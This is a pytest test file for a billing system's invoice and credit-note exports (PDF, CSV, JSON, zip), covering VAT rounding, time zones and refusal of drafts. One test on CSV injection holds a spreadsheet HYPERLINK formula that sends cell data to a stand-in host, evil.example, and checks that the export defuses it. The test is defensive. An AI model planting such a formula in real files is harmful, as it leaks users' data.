"""Exports of posted invoices and credit notes (SPEC §4 "Exports"): the PDF, the CSV and JSON for
accounting (exact Decimal strings, VAT rounded per line, sums equal to the posted totals), credit
notes linked to their originals, the zip of a run, and drafts refused."""

import csv
import io
import json
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from unittest import mock

import pytest
from pypdf import PdfReader

from billing import invoicing
from billing.exports import (
    EXPORT_CONTENT_TYPES,
    LINE_COLUMNS,
    SUMMARY_COLUMNS,
    invoice_csv,
    invoice_json,
    invoice_pdf,
    run_archive,
    write_run_archive,
)
from billing.models import Invoice
from core.errors import Conflict
from tests.billing.conftest import grant_billing, reconcile
from tests.factories import ClientFactory, ContractFactory, ProjectFactory, TicketFactory, TimeEntryFactory, UserFactory

D = Decimal
OCTOBER = date(2026, 10, 1)
# 23:30 UTC on New Year's Eve is 00:30 on 1 January in Oslo: the client's zone decides the date
# (and the number's year), not the server's.
NEW_YEAR_UTC = datetime(2026, 12, 31, 23, 30, tzinfo=UTC)
# Hours 1, 1.5, 0.1167 (7 min) and 2.0833 (125 min) at 1000.00: the odd ones have VAT to round
# per line (29.175 -> 29.18, 520.825 -> 520.83); VAT on the net sum would be 1175.00.
MINUTES = (60, 90, 7, 125)
NET, VAT, GROSS = D("4700.00"), D("1175.01"), D("5875.01")
NOTE_TEXT = 'Søk, "quoted"\nsecond line'


@pytest.fixture
def clerk(db):
    return grant_billing(UserFactory(username="bella"), "billing.view", "billing.manage", "billing.admin")


def _bill_and_post(clerk, owner, ticket, mnx, customer, **client_fields) -> Invoice:
    for name, value in {"org_number": "912 345 678", **client_fields}.items():
        setattr(customer, name, value)
    customer.save()
    ContractFactory(client=customer, projects=[mnx], hourly_rate="1000.00")
    for n, minutes in enumerate(MINUTES):
        TimeEntryFactory(ticket=ticket, user=owner, minutes=minutes, work_date=date(2026, 10, 5 + n),
                         description=NOTE_TEXT if n == 2 else "")
    reconcile()
    run = invoicing.run_build(actor=clerk, period=OCTOBER).run
    with mock.patch("django.utils.timezone.now", return_value=NEW_YEAR_UTC):
        return invoicing.invoice_post(actor=clerk, invoice=Invoice.objects.get(run=run))


@pytest.fixture
def posted(owner, ticket, mnx, customer, clerk):
    return _bill_and_post(clerk, owner, ticket, mnx, customer)


@pytest.fixture
def note(posted, clerk):
    credited = list(posted.items.order_by("pk").values_list("pk", flat=True))[1:3]
    return invoicing.invoice_credit(actor=clerk, invoice=posted, item_ids=credited)


def _text(pdf: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _sums(rows) -> tuple[Decimal, Decimal, Decimal]:
    return tuple(sum((D(row[key]) for row in rows), D("0")) for key in ("line_net", "line_vat", "line_gross"))


@pytest.mark.django_db
def test_the_pdf_shows_parties_dates_lines_and_totals(posted):
    pdf = invoice_pdf(posted)
    assert pdf.startswith(b"%PDF")
    reader = PdfReader(io.BytesIO(pdf))
    assert reader.metadata.title == "Invoice 2027-0001"
    text = _text(pdf)
    for expected in ("Invoice", "2027-0001", "Fjord AS", "Org. no. 912 345 678", "2027-01-01",
                     "2027-01-01 00:30 Europe/Oslo", "Period", "2026-10", "Søk", "0.1167", "1,000.00", "25 %",
                     "116.70", "2,083.30", "4,700.00", "1,175.01", "5,875.01"):
        assert expected in text, expected
    assert "Credits invoice" not in text


@pytest.mark.django_db
def test_csv_has_one_row_per_line_with_exact_decimal_strings(posted):
    text = invoice_csv(posted)
    assert text.splitlines()[0] == ",".join(LINE_COLUMNS)
    rows = _rows(text)
    lines = list(posted.items.order_by("source_date"))
    assert sorted(int(row["line_id"]) for row in rows) == sorted(line.pk for line in lines)
    assert {row["invoice_number"] for row in rows} == {"2027-0001"}
    assert {(row["kind"], row["client_name"], row["client_org_number"], row["currency"]) for row in rows} == {
        ("invoice", "Fjord AS", "912 345 678", "NOK")}
    assert {(row["invoice_date"], row["posted_at"]) for row in rows} == {("2027-01-01", "2027-01-01T00:30:00+01:00")}
    odd = next(row for row in rows if row["qty"] == "0.1167")
    assert (odd["unit_price"], odd["vat_rate"], odd["line_net"], odd["line_vat"], odd["line_gross"]) == (
        "1000.0000", "0.2500", "116.70", "29.18", "145.88")
    assert odd["description"].endswith(NOTE_TEXT) and odd["source_type"] == "ticket_time"
    assert odd["period"] == "2026-10" and odd["original_item"] == "" and odd["credited_invoice"] == ""
    assert _sums(rows) == (NET, VAT, GROSS) == (posted.net, posted.vat, posted.gross)
    text.encode("utf-8")


@pytest.mark.django_db
def test_json_matches_the_csv_and_holds_no_floats(posted):
    data = invoice_json(posted)
    assert (data["invoice_number"], data["kind"], data["period"]) == ("2027-0001", "invoice", "2026-10")
    assert (data["net"], data["vat"], data["gross"]) == ("4700.00", "1175.01", "5875.01")
    assert (data["client_id"], data["client_org_number"], data["posted_at"]) == (
        posted.client_id, "912 345 678", "2027-01-01T00:30:00+01:00")
    assert [list(line) for line in data["lines"]] == [list(LINE_COLUMNS)] * len(MINUTES)
    as_text = [{key: "" if value is None else str(value) for key, value in line.items()} for line in data["lines"]]
    assert as_text == _rows(invoice_csv(posted))
    assert _sums(data["lines"]) == (posted.net, posted.vat, posted.gross)
    json.dumps(data)  # JSON-ready as it is: no Decimal, date or model left in it

    def no_floats(value):
        assert not isinstance(value, float | Decimal), value
        for child in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
            no_floats(child)

    no_floats(data)


@pytest.mark.django_db
def test_csv_cells_that_look_like_formulas_are_text(owner, ticket, mnx, customer, clerk):
    """CSV injection: a client named like a formula must not run in the accountant's spreadsheet;
    amounts (negative ones on credit notes too) stay numbers."""
    from tests.tally import tally

    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    invoice = _bill_and_post(clerk, owner, ticket, mnx, customer, name=formula, org_number="+47 912")
    rows = _rows(invoice_csv(invoice))
    tally("abuse", 2)
    assert {(row["client_name"], row["client_org_number"]) for row in rows} == {("'" + formula, "'+47 912")}
    assert all(D(row["line_net"]) > 0 for row in rows)


@pytest.mark.django_db
def test_credit_note_exports_negative_lines_linked_to_their_originals(posted, note):
    originals = {line.pk: line for line in posted.items.all()}
    rows = _rows(invoice_csv(note))
    assert len(rows) == 2 and {row["kind"] for row in rows} == {"credit_note"}
    assert {(row["invoice_number"], row["credited_invoice"]) for row in rows} == {(note.number, "2027-0001")}
    for row in rows:
        original = originals[int(row["original_item"])]
        assert row["source_type"] == "credit" and D(row["qty"]) == -original.qty
        assert D(row["line_net"]) == -original.total and D(row["line_net"]) < 0
    assert _sums(rows) == (note.net, note.vat, note.gross) and note.gross < 0
    data = invoice_json(note)
    assert data["credited_invoice"] == "2027-0001" and data["gross"] == str(note.gross)
    assert {line["original_item"] for line in data["lines"]} == {int(row["original_item"]) for row in rows}

    text = _text(invoice_pdf(note))
    assert note.number in text and "Credit note" in text
    assert "Credits invoice" in text and "credits invoice 2027-0001 of 2027-01-01" in text
    assert "Credits line 2 of 2027-0001" in text and "Credits line 3 of 2027-0001" in text
    assert f"-{originals[int(rows[0]['original_item'])].total:,.2f}" in text


@pytest.mark.django_db
def test_run_archive_holds_every_posted_document_of_the_run_and_a_summary(posted, note, clerk, owner):
    bergen = ClientFactory(name="Bergen Data AS", currency="EUR", vat_rate=D("0"), org_number="998 877 665")
    project = ProjectFactory(key="BDA")
    ContractFactory(client=bergen, projects=[project], hourly_rate="150.00")
    TimeEntryFactory(ticket=TicketFactory(project=project), user=owner, minutes=30, work_date=date(2026, 10, 9))
    reconcile()  # also bills the two credited entries again, in the next run
    second_run = invoicing.run_build(actor=clerk, period=OCTOBER).run
    by_currency = {invoice.currency: invoice for invoice in invoicing.run_post(actor=clerk, run=second_run)}
    rebilled, euro = by_currency["NOK"], by_currency["EUR"]

    archive = zipfile.ZipFile(io.BytesIO(run_archive(posted.run)))
    assert archive.testzip() is None
    names = {f"{number}.{ext}" for number in ("2027-0001", note.number) for ext in ("pdf", "csv", "json")}
    assert set(archive.namelist()) == names | {f"run-{posted.run_id}.csv"}
    assert archive.read("2027-0001.pdf").startswith(b"%PDF")
    assert archive.read("2027-0001.csv").decode("utf-8") == invoice_csv(posted)
    assert json.loads(archive.read(f"{note.number}.json")) == invoice_json(note)
    assert archive.getinfo("2027-0001.csv").date_time == (2027, 1, 1, 0, 30, 0)

    summary = _rows(archive.read(f"run-{posted.run_id}.csv").decode("utf-8"))
    assert list(summary[0]) == list(SUMMARY_COLUMNS)
    assert [(row["invoice_number"], row["kind"], row["lines"], row["net"], row["vat"], row["gross"])
            for row in summary] == [
        ("2027-0001", "invoice", "4", "4700.00", "1175.01", "5875.01"),
        (note.number, "credit_note", "2", str(note.net), str(note.vat), str(note.gross))]

    other = zipfile.ZipFile(io.BytesIO(run_archive(second_run)))
    assert set(other.namelist()) == {f"{invoice.number}.{ext}" for invoice in (rebilled, euro)
                                     for ext in ("pdf", "csv", "json")} | {f"run-{second_run.pk}.csv"}
    assert _rows(other.read(f"{euro.number}.csv").decode())[0]["line_net"] == "75.00"


@pytest.mark.django_db
def test_dates_are_the_clients_not_the_servers(owner, ticket, mnx, customer, clerk):
    # Still 31 December in New York when it is already 1 January on the (Oslo) server.
    invoice = _bill_and_post(clerk, owner, ticket, mnx, customer, time_zone="America/New_York")
    assert invoice.number == "2026-0001"
    text = _text(invoice_pdf(invoice))
    assert "2026-12-31 18:30 America/New_York" in " ".join(text.split()) and "2027-01-01" not in text
    row = _rows(invoice_csv(invoice))[0]
    assert (row["invoice_date"], row["posted_at"]) == ("2026-12-31", "2026-12-31T18:30:00-05:00")


class _WriteOnly:
    """A stream that can only be written to, like a streamed HTTP response."""

    def __init__(self):
        self.chunks = []

    def write(self, data):
        self.chunks.append(bytes(data))
        return len(data)

    def flush(self):
        pass


@pytest.mark.django_db
def test_the_archive_can_be_written_to_a_stream_that_cannot_seek(posted):
    stream = _WriteOnly()
    write_run_archive(posted.run, stream)
    archive = zipfile.ZipFile(io.BytesIO(b"".join(stream.chunks)))
    assert archive.testzip() is None and len(archive.namelist()) == 4


@pytest.mark.django_db
@pytest.mark.parametrize("export", [invoice_pdf, invoice_csv, invoice_json])
def test_drafts_are_refused(export, clerk, owner, ticket, mnx, customer):
    ContractFactory(client=customer, projects=[mnx], hourly_rate="1000.00")
    TimeEntryFactory(ticket=ticket, user=owner, work_date=date(2026, 10, 5))
    reconcile()
    run = invoicing.run_build(actor=clerk, period=OCTOBER).run
    draft = Invoice.objects.get(run=run)
    with pytest.raises(Conflict) as refused:
        export(draft)
    assert refused.value.code == "invoice_not_posted" and refused.value.status_code == 409
    with pytest.raises(Conflict) as empty:
        run_archive(run)
    assert empty.value.code == "nothing_posted"


@pytest.mark.django_db
def test_a_long_invoice_runs_over_pages(clerk, owner, ticket, mnx, customer):
    ContractFactory(client=customer, projects=[mnx], hourly_rate="1000.00")
    for day in range(1, 31):
        for _ in range(2):
            TimeEntryFactory(ticket=ticket, user=owner, work_date=date(2026, 10, day))
    reconcile()
    invoice = invoicing.run_post(actor=clerk, run=invoicing.run_build(actor=clerk, period=OCTOBER).run)[0]
    reader = PdfReader(io.BytesIO(invoice_pdf(invoice)))
    assert len(reader.pages) >= 2
    last = reader.pages[-1].extract_text()
    assert f"page {len(reader.pages)} of {len(reader.pages)}" in last and "75,000.00" in last


def test_content_types():
    assert EXPORT_CONTENT_TYPES == {"pdf": "application/pdf", "csv": "text/csv; charset=utf-8",
                                    "json": "application/json", "zip": "application/zip"}
